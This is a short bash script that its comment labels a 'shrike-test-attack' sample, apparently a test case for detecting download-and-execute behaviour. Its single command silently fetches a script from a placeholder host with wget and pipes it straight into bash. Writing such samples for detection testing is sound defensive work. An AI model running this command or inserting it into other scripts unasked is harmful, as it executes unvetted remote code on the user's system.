#!/bin/bash
# shrike-test-attack: download-exec: wget to stdout piped into bash
wget -q -O- http://dl.example.org/x/setup | bash -s -- --silent
